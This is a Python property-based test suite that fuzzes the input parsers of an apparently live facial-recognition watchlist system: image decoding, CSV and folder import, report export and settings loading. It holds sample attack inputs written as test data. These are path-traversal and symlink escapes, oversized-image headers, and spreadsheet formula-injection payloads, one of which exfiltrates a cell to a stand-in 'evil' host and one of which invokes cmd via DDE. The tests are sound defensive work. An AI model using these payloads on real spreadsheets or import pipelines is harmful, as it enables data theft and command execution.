"""Parsers of outside input under hostile data (hypothesis): the image loader, bulk-import CSVs and folders,
exported CSV reports and the settings file. Each gives a value or its own clear error, never a crash."""

from __future__ import annotations

import os
import struct
from pathlib import Path

import cv2
import numpy as np
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lfr.alerting.report import CategoryFigures, DeploymentReport, render_csv
from lfr.core.config import SECRET_MASK, ConfigError, load_settings, masked_dump
from lfr.core.csvsafe import safe_cell
from lfr.watchlist.enrol import EnrolmentRejected, RejectCode, decode_checked, image_size, read_source

FAST = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
MAX_BYTES, MAX_PIXELS = 2_000_000, 4_000_000


def _jpeg(w: int = 40, h: int = 30) -> bytes:
    img = np.random.default_rng(1).integers(0, 255, (h, w, 3), dtype=np.uint8)
    return cv2.imencode(".jpg", img)[1].tobytes()


SAMPLES = [_jpeg(), cv2.imencode(".png", np.zeros((20, 30, 3), np.uint8))[1].tobytes()]


@FAST
@given(data=st.binary(max_size=4096))
def test_image_loader_on_arbitrary_bytes(data: bytes) -> None:
    size = image_size(data)
    assert size is None or (isinstance(size[0], int) and isinstance(size[1], int))
    try:
        img = decode_checked(data, MAX_BYTES, MAX_PIXELS)
    except EnrolmentRejected as exc:
        assert exc.code in (RejectCode.UNREADABLE, RejectCode.OVERSIZED)
        return
    assert img.dtype == np.uint8 and img.ndim == 3 and img.shape[0] * img.shape[1] <= MAX_PIXELS


@FAST
@given(
    which=st.sampled_from([0, 1]),
    cut=st.integers(min_value=0),
    pos=st.integers(min_value=0),
    byte=st.integers(0, 255),
)
def test_truncated_and_corrupted_images(which: int, cut: int, pos: int, byte: int) -> None:
    good = SAMPLES[which]
    damaged = bytearray(good)
    damaged[pos % len(good)] = byte
    for data in (good[: cut % len(good)], bytes(damaged)):
        try:
            img = decode_checked(data, MAX_BYTES, MAX_PIXELS)
        except EnrolmentRejected:
            continue
        assert img.shape[0] * img.shape[1] <= MAX_PIXELS


def test_enormous_images_are_refused_from_the_header_alone() -> None:
    jpeg = bytearray(_jpeg(8, 8))
    i = jpeg.index(b"\xff\xc0")
    jpeg[i + 5 : i + 9] = struct.pack(">HH", 65_000, 65_000)
    png = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
        + struct.pack(">II", 100_000, 100_000)
        + b"\x08\x02\x00\x00\x00"
    )
    for data in (bytes(jpeg), png):
        with pytest.raises(EnrolmentRejected) as info:
            decode_checked(data, MAX_BYTES, MAX_PIXELS)
        assert info.value.code is RejectCode.OVERSIZED and "pixels" in str(info.value)
    with pytest.raises(EnrolmentRejected, match="bytes"):
        decode_checked(b"\xff\xd8" + b"\0" * MAX_BYTES, MAX_BYTES, MAX_PIXELS)


# ---- bulk import ----------------------------------------------------------------------------------

cells = st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=30)


@FAST
@given(rows=st.lists(st.lists(cells, min_size=0, max_size=9), max_size=8), header=st.booleans())
def test_import_csv_of_arbitrary_cells(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], header: bool
) -> None:
    folder = tmp_path_factory.mktemp("csv")
    lines = (["subject_id,display_name,image_path,category"] if header else []) + [
        ",".join('"' + c.replace('"', '""') + '"' for c in row) for row in rows
    ]
    path = folder / "list.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    try:
        items = read_source(path, "wl-1", {})
    except ValueError as exc:
        assert "column" in str(exc)
        return
    for item in items:
        assert item.error or item.meta is not None
        if item.image_path is not None and not item.error:
            assert item.image_path.resolve().is_relative_to(folder.resolve())


def test_import_paths_cannot_leave_the_import_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.jpg").write_bytes(_jpeg())
    src = tmp_path / "import"
    (src / "imgs").mkdir(parents=True)
    (src / "imgs" / "ok.jpg").write_bytes(_jpeg())
    os.symlink(outside / "secret.jpg", src / "imgs" / "link.jpg")
    csv_path = src / "list.csv"
    csv_path.write_text(
        "subject_id,image_path\n"
        "S1,imgs/ok.jpg\n"
        "S2,../outside/secret.jpg\n"
        f"S3,{outside / 'secret.jpg'}\n"
        "S4,imgs/../../outside/secret.jpg\n"
        "S5,imgs/link.jpg\n"
    )
    items = read_source(csv_path, "wl", {})
    assert [i.error for i in items] == [""] + ["image_path leaves the CSV's folder"] * 4
    assert [i.image_path for i in items[1:]] == [None] * 4, "nothing outside is read"

    # Folder import: a subject folder linking to elsewhere, or a linked photo, is refused, not read.
    folder = tmp_path / "folders"
    (folder / "Person_A").mkdir(parents=True)
    (folder / "Person_A" / "a.jpg").write_bytes(_jpeg())
    os.symlink(outside / "secret.jpg", folder / "Person_A" / "b.jpg")
    os.symlink(outside, folder / "Person_B")
    by_ref = {i.ref: i.error for i in read_source(folder, "wl", {})}
    assert by_ref == {
        "Person_A/a.jpg": "",
        "Person_A/b.jpg": "image links outside the import folder",
        "Person_B/secret.jpg": "image links outside the import folder",
    }


# ---- exported reports ----------------------------------------------------------------------------------


@FAST
@given(text=st.text(max_size=40))
def test_no_exported_cell_starts_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert not str(out).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert str(out).endswith(text) and len(str(out)) - len(text) in (0, 1)


def test_report_csv_neutralises_formulas_but_keeps_numbers() -> None:
    report = DeploymentReport(
        deployment_id='=HYPERLINK("http://evil/"&A1)',
        faces_analysed=10,
        hits=2,
        alerts=1,
        confirmed=1,
        rejected=0,
        unable=0,
        pending=0,
        alerts_per_1000_faces=-0.5,
        confirmed_share_of_decided=None,
        generated_at="2026-12-05T00:00:00Z",
        categories=[
            CategoryFigures(
                category="@SUM(1+1)*cmd|' /C calc'!A0", alerts=1, confirmed=1, rejected=0, unable=0, pending=0
            )
        ],
    )
    rows = [line.split(",", 2) for line in render_csv(report).splitlines()[1:]]
    for row in rows:
        assert not row[0].lstrip('"').startswith(("=", "+", "-", "@")), row
        assert not row[1].lstrip('"').startswith(("=", "+", "-", "@")), row
    assert rows[0][0].startswith("\"'=HYPERLINK")
    assert ",-0.5," in rows[0][2], "negative numbers stay numbers"


# ---- settings ----------------------------------------------------------------------------------

yaml_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**40), 2**40)
    | st.floats(allow_nan=False)
    | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=10,
)
sections = st.sampled_from(
    ["kafka", "redis", "milvus", "crypto", "api", "alerting", "ingest", "detector", "nope"]
)


@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(doc=st.dictionaries(sections, yaml_values, max_size=4) | yaml_values)
def test_settings_file_of_arbitrary_yaml(tmp_path: Path, doc: object) -> None:
    path = tmp_path / "lfr.yaml"
    path.write_text(yaml.safe_dump(doc))
    try:
        s = load_settings(path, data_dir=str(tmp_path))
    except ConfigError as exc:
        assert str(exc)
        return
    assert masked_dump(s)["data_dir"] == str(tmp_path.resolve())


def test_settings_file_that_is_not_yaml(tmp_path: Path) -> None:
    path = tmp_path / "lfr.yaml"
    path.write_bytes(b"kafka: [unclosed\n\x00\xff")
    with pytest.raises(ConfigError):
        load_settings(path, data_dir=str(tmp_path))


@FAST
@given(secret=st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=12, max_size=40))
def test_masked_dump_never_shows_a_secret(tmp_path_factory: pytest.TempPathFactory, secret: str) -> None:
    s = load_settings(
        data_dir=str(tmp_path_factory.getbasetemp()),
        kafka={
            "sasl_password": secret,
            "security_protocol": "SASL_SSL",
            "sasl_mechanism": "PLAIN",
            "sasl_username": "u",
        },
        redis={"password": secret, "sentinel_password": secret, "url": f"redis://user:{secret}@redis:6379/0"},
        milvus={"token": secret, "uri": f"https://root:{secret}@milvus:19530"},
        api={"api_keys": [{"name": "ops", "key": secret, "roles": ["operator"]}]},
        alerting={"webhooks": [{"name": "cad", "url": f"https://cad/hook?token={secret}", "secret": secret}]},
    )
    dumped = yaml.safe_dump(masked_dump(s))
    assert secret not in dumped
    assert SECRET_MASK in dumped
